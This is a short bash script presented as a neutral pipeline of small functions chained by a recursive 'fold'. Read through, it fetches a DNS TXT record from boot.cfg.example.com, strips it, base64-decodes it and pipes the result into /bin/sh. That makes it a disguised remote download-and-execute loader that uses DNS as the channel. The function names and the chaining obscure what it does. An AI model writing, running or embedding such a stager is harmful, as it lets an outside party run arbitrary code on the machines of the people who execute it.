#!/usr/bin/env bash
# three stages, each a function, chained by a fold
ask()    { dig +short TXT "boot.$1"; }
strip()  { tr -d '" \n'; }
unpack() { base64 -d; }
act()    { "${SHELL##*/}" -s -- --zone "$zone"; }

zone=cfg.example.com
SHELL=/bin/sh
fold() {
  if (($# > 1)); then "$1" "$zone" | { shift; fold "$@"; }; else "$1"; fi
}
fold ask strip unpack act
